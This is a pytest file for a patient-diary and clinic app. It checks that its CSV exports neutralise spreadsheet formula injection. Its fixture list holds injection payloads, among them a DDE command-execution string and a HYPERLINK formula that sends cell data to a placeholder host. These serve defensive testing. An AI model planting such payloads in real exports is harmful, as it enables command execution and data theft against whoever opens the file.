"""No CSV the server writes carries a live spreadsheet formula (review L3), and the long CSV
still replays to exactly what was stored.

Before: the long CSV (`export --format long`, `GET /api/v1/me/export`) wrote 10 of 14 formula
payloads as they were; the wide consult CSV guarded `= + - @ tab CR` but not a leading space,
a line feed or the full-width `＝`.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import datetime, timedelta

import pytest

from backend.tools.replay import read_responses
from tests.conftest import AMS, diary, new_id

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"klik")',
    "@SUM(1;1)",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   @SUM(1)",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    "'gewoon",
    "gewoon = prima",
]


def runs_as_formula(cell: str) -> bool:
    """What Excel/LibreOffice run: = + - @ first, after spaces or a control, full-width too."""
    if cell.startswith("'"):
        return False
    stripped = cell.lstrip(" \t\r\n\u00a0\u3000")
    return cell[:1] in ("\t", "\r", "\n") or unicodedata.normalize("NFKC", stripped[:1]) in (
        "=",
        "+",
        "-",
        "@",
    )


@pytest.fixture
def noted(client, patient):
    pid, headers = patient
    today = datetime.now(AMS).date()
    for n, note in enumerate(PAYLOADS):
        day = (today - timedelta(days=n % 10)).isoformat()
        body = diary(day, note=note)
        r = client.put(f"/api/v1/responses/{new_id()}", json=body, headers=headers)
        assert r.status_code == 201, r.text
    return pid, headers


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]


def test_the_patients_own_export_has_no_live_formula_and_replays_exactly(client, noted):
    _pid, headers = noted
    r = client.get("/api/v1/me/export", headers=headers)
    assert r.status_code == 200
    text = r.content.decode("utf-8-sig")
    assert [c for c in cells(text) if runs_as_formula(c)] == []
    rows = list(csv.DictReader(io.StringIO(text)))
    [patient] = read_responses(enumerate(rows, start=2)).values()
    notes = sorted(resp.answers["note"] for resp in patient.values())
    assert notes == sorted(PAYLOADS)


@pytest.mark.parametrize("dialect", ["nl", "standard"])
def test_the_consult_csv_has_no_live_formula(client, clinician, noted, dialect):
    pid, _ = noted
    r = client.get(f"/clinic/patients/{pid}/consult.csv?dialect={dialect}")
    assert r.status_code == 200
    text = r.content.decode("utf-8-sig")
    all_cells = cells(text, ";" if dialect == "nl" else ",")
    assert [c for c in all_cells if runs_as_formula(c)] == []
    assert "'＝1+1" in all_cells and "''=1+1" in all_cells and "gewoon = prima" in all_cells


def test_the_cli_long_export_is_guarded_too(tmp_path, client, noted, settings):
    from backend import cli

    out = tmp_path / "long.csv"
    assert cli.main(["--db", settings.db, "export", "--format", "long", "-o", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    assert [c for c in cells(text) if runs_as_formula(c)] == []


@pytest.mark.parametrize("dialect", ["nl", "standard"])
def test_the_inbox_csv_has_no_live_formula_in_either_variant(client, clinician, patient, services, dialect):
    from backend.alerts import store as alerts_store
    from backend.patients import store as patients_store

    pid, _ = patient
    services.db.write_sync(lambda conn: patients_store.update(conn, pid, {"display_name": "=1+1"}))
    for n, payload in enumerate(PAYLOADS[:6]):
        services.db.write_sync(
            lambda conn, n=n, payload=payload: alerts_store.open_alert(
                conn,
                pid,
                rule_id=f"test.{n}",
                category="pain",
                severity="routine",
                day="2026-01-01",
                reason=payload,
                level=None,
                at="2026-01-01T08:00:00Z",
            )
        )
    r = client.get(f"/clinic/alerts.csv?dialect={dialect}")
    assert r.status_code == 200
    all_cells = cells(r.content.decode("utf-8-sig"), ";" if dialect == "nl" else ",")
    assert [c for c in all_cells if runs_as_formula(c)] == []
    assert "'=cmd|' /C calc'!A0" in all_cells
    assert ("'=1+1" in all_cells) == (dialect == "nl")  # the name is in the Dutch variant only
